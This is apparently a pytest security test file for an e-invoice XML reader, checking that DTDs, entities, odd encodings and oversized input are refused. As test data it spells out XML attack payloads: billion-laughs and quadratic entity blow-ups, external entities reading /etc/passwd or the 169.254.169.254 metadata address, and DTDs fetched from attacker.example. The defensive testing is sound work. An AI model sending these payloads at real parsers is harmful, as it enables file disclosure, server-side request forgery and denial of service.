"""Hostile XML is refused by a code of its own: no entity is ever resolved, and nothing grows beyond its bound."""

import codecs
import tracemalloc

import pytest
from billhead.einvoice.reading import values, xml_tree
from billhead.einvoice.reading.service import parse_xml

from tests.unit.einvoice_reading.full_cii import FULL_CII
from tests.unit.einvoice_reading.full_ubl import FULL_UBL
from tests.unit.einvoice_reading.parsing import changed, warned, xml_refused

BODY = FULL_UBL.partition("?>")[2]
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{number} '{f'&a{number - 1};' * 10}'>" for number in range(1, 10)
)
DOCTYPES = {
    "billion laughs": f"{LAUGHS}]><Invoice>&a9;</Invoice>",
    "quadratic blow-up": "<!DOCTYPE a [<!ENTITY x '" + "y" * 100_000 + "'>]><a>" + "&x;" * 10_000 + "</a>",
    "external entity": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "entity of the network": "<!DOCTYPE a [<!ENTITY x SYSTEM 'http://169.254.169.254/'>]><a>&x;</a>",
    "parameter entity": "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://attacker.example/x.dtd'>%x;]><a/>",
    "external subset": "<!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>",
    "harmless": "<!DOCTYPE Invoice><Invoice/>",
    "after a comment": f"<!-- <a> --><?pi <a?>\n<!DOCTYPE a><a/>{'x' * 100}",
    "default attributes": "<!DOCTYPE a [<!ATTLIST a b CDATA 'c'>]><a/>",
}
UTF_7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'


@pytest.mark.parametrize("name", DOCTYPES)
@pytest.mark.parametrize("start", ["", '<?xml version="1.0"?>\n', "\ufeff", "\n"])
def test_a_document_type_declaration_is_never_taken(name: str, start: str) -> None:
    assert xml_refused((start + DOCTYPES[name]).encode()) == "xml_doctype_refused"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_declaration_is_not_hidden_by_another_encoding(encoding: str) -> None:
    mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    assert xml_refused(mark + DOCTYPES["billion laughs"].encode(encoding)) == "xml_doctype_refused"


@pytest.mark.parametrize("entity", ["&x;", "&nbsp;", "&#0;", "&#xD800;", "&#x110000;"])
def test_an_entity_that_xml_does_not_have_by_itself_is_refused(entity: str) -> None:
    assert xml_refused(changed(FULL_UBL, "Nordlicht d.o.o.", entity).encode()) == "xml_malformed"


def test_the_five_entities_and_characters_by_number_are_read() -> None:
    answer = parse_xml(changed(FULL_UBL, "Nordlicht d.o.o.", "&lt;&amp;&gt;&quot;&apos;&#269;&#x1F4B6;").encode())
    assert answer["document"]["issuer"]["name"] == "<&>\"'č\U0001f4b6"


def test_text_that_only_looks_like_a_declaration_is_text() -> None:
    answer = parse_xml(changed(FULL_UBL, "30 days net", "<![CDATA[<!DOCTYPE a><b>&x;]]>").encode())
    assert answer["document"]["payment_terms"] == "<!DOCTYPE a><b>&x;"


@pytest.mark.parametrize(
    ("declared", "codec"),
    [
        ("UTF-8", "utf-8"),
        ("utf-8", "utf-8-sig"),
        ("UTF-16", "utf-16"),
        ("ISO-8859-1", "latin-1"),
        ("windows-1252", "cp1252"),
    ],
)
def test_the_usual_encodings_are_read(declared: str, codec: str) -> None:
    text = changed(FULL_UBL, "Nordlicht d.o.o.", "Müller & Söhne".replace("&", "&amp;"))
    content = f'<?xml version="1.0" encoding="{declared}"?>{text.partition("?>")[2]}'.encode(codec)
    assert parse_xml(content)["document"]["issuer"]["name"] == "Müller & Söhne"


@pytest.mark.parametrize(
    "content",
    [
        UTF_7,
        b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>',
        b'<?xml version="1.0" encoding="UTF-32"?><a/>',
        b'<?xml version="1.0" encoding="ISO-2022-JP"?><a/>',
        b'<?xml version="1.0" encoding="rot13"?><a/>',
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        codecs.BOM_UTF8 + b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        codecs.BOM_UTF16_LE + '<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + b"<a/>1",
        codecs.BOM_UTF16_LE + b"\x00\xd8<\0",
        b"<a>\xff</a>",
        b'<?xml version="1.0" encoding="US-ASCII"?><a>\xc3\xa4</a>',
        b"<a>\xed\xa0\x80</a>",
        b"<a>\xc0\xbc</a>",
    ],
)
def test_an_encoding_that_is_strange_or_wrong_is_refused(content: bytes) -> None:
    assert xml_refused(content) == "xml_encoding_refused"


@pytest.mark.parametrize("name", DOCTYPES)
@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_an_encoding_without_its_mark_is_not_guessed(name: str, codec: str) -> None:
    """Expat would guess it, also where it is told UTF-8, and so meet a declaration that nobody has seen."""
    for text in (DOCTYPES[name], "<a/>"):
        assert xml_refused(text.encode(codec)) == "xml_malformed"


@pytest.mark.parametrize(
    "start", ["\ufeff\ufeff", "\ufeff \ufeff", "x", "&#32;", "\u200b", "\x0c", "\xa0", "<!-->-->", "<![CDATA[]]>"]
)
@pytest.mark.parametrize("name", DOCTYPES)
def test_nothing_strange_may_stand_before_a_declaration(start: str, name: str) -> None:
    """What one reader skips and another does not would hide it."""
    assert xml_refused((start + DOCTYPES[name]).encode()) in {"xml_malformed", "xml_doctype_refused"}


def test_the_parser_never_meets_a_declaration(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its handler would refuse it as well; no attack gets as far as that."""
    monkeypatch.setattr(xml_tree.expat, "ParserCreate", pytest.fail)
    for text in DOCTYPES.values():
        for content in (text.encode(), b"\xef\xbb\xbf" + text.encode(), ("\ufeff\ufeff" + text).encode()):
            assert xml_refused(content) in {"xml_doctype_refused", "xml_malformed"}
        for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
            assert xml_refused(text.encode(codec)) is not None


def test_what_a_gateway_made_of_another_encoding_is_read_as_it_came() -> None:
    text = FULL_UBL.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace("Nordlicht d.o.o.", "Müller")
    answer = parse_xml(text.encode(), is_decoded=True)
    assert (answer["document"]["issuer"]["name"], answer["warnings"]) == ("Müller", [])


def test_what_a_gateway_lost_is_told() -> None:
    answer = parse_xml(FULL_UBL.replace("Nordlicht d.o.o.", "M\ufffdller").encode(), is_decoded=True)
    assert warned(answer) == [("text_damaged", None)]


@pytest.mark.parametrize(
    "content",
    [
        "<a>" * 1_000_000,
        "<a>" * xml_tree.MAX_DEPTH + "<b/>" + "</a>" * xml_tree.MAX_DEPTH,
        "<a>" + "<b/>" * (xml_tree.MAX_ELEMENTS + 1) + "</a>",
        "<a " + " ".join(f'b{number}="c"' for number in range(xml_tree.MAX_ATTRIBUTES + 1)) + "/>",
        "<a " + " ".join(f'xmlns:b{number}="c"' for number in range(xml_tree.MAX_ATTRIBUTES + 1)) + "/>",
        '<a b="' + "c" * 1_000_000 + '"/>',
        "<" + "a" * 1_000_000 + "/>",
        '<a xmlns="' + "u" * 100_000 + '"/>',
        "<a>" + "b" * (xml_tree.MAX_TEXT + 1) + "</a>",
        "<a>" + "b<c/>" * (xml_tree.MAX_TEXT + 1) + "</a>",
        "<a><b>" + " " * 1_000_000 + "</b></a>",
    ],
    ids=["open", "deep", "many", "attributes", "prefixes", "value", "name", "namespace", "text", "mixed", "blank"],
)
def test_what_no_invoice_needs_is_refused_and_takes_little_memory(content: str) -> None:
    encoded = content.encode()
    del content
    tracemalloc.start()
    code = xml_refused(encoded)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == "xml_too_complex"
    assert most < 200 * 1024 * 1024


@pytest.mark.parametrize("name", ["cac:InvoiceLine", "cac:AdditionalDocumentReference", "cbc:Note", "cac:TaxTotal"])
def test_nothing_is_said_more_often_than_any_invoice_says_it(name: str) -> None:
    """What may be repeated costs work each time, also where it is empty."""
    for count, code in ((values.MAX_REPEATED - 10, None), (values.MAX_REPEATED + 1, "xml_too_complex")):
        content = changed(FULL_UBL, "</Invoice>", f"<{name}/>" * count + "</Invoice>")
        assert xml_refused(content.encode()) == code


def test_an_enclosed_file_may_be_longer_than_any_text() -> None:
    content = "QUJD" * xml_tree.MAX_TEXT
    answer = parse_xml(changed(FULL_UBL, "aG91\ncnM=", content).encode())
    assert answer["document"]["attachments"][0]["bytes"] == 3 * xml_tree.MAX_TEXT


@pytest.mark.parametrize(
    "content",
    [
        "",
        " ",
        "{}",
        "<a>",
        "<a></b>",
        "<a/><b/>",
        "<a b='1' b='2'/>",
        "<a><b:c/></a>",
        "<!--",
        "<?pi",
        "<!---->" * 1000 + "<a/>",
        "<a/><!DOCTYPE a>",
        "<a>\0</a>",
        "<a>\ufffe</a>",
        BODY[: len(BODY) // 2],
    ],
)
def test_what_is_not_well_formed_is_refused(content: str) -> None:
    assert xml_refused(content.encode()) == "xml_malformed"


@pytest.mark.parametrize(
    "content",
    [
        "<Invoice/>",
        "<Order xmlns='urn:oasis:names:specification:ubl:schema:xsd:Order-2'/>",
        "<rsm:CrossIndustryDocument xmlns:rsm='urn:ferd:CrossIndustryDocument:invoice:1p0'/>",
        FULL_UBL.replace(":Invoice-2", ":Invoice-3"),
        FULL_CII.replace(":CrossIndustryInvoice:100", ":CrossIndustryInvoice:13"),
    ],
)
def test_what_is_no_invoice_in_the_two_syntaxes_is_told_apart(content: str) -> None:
    assert xml_refused(content.encode()) == "e_invoice_syntax_unknown"


def test_an_element_of_a_foreign_namespace_is_never_taken_for_ours() -> None:
    foreign = '<x:IssueDate xmlns:x="urn:foreign">2020-01-01</x:IssueDate><cbc:IssueDate>'
    answer = parse_xml(changed(FULL_UBL, "<cbc:IssueDate>", foreign, 1).encode())
    assert (answer["document"]["date"], answer["warnings"]) == ("2026-11-01", [])


def test_prefixes_are_the_files_own_affair() -> None:
    text = FULL_CII.replace("ram:", "x:").replace("xmlns:ram=", "xmlns:x=")
    assert parse_xml(text.encode())["document"] == parse_xml(FULL_CII.encode())["document"]


def test_a_refusal_quotes_nothing_of_the_file() -> None:
    from billhead.kernel.errors import BillheadError

    for content in ("<a>secret", "<a>&secret;</a>", "<secret>" * 100, "<a secret='1' secret='2'/>"):
        with pytest.raises(BillheadError) as caught:
            parse_xml(content.encode())
        assert "secret" not in caught.value.detail
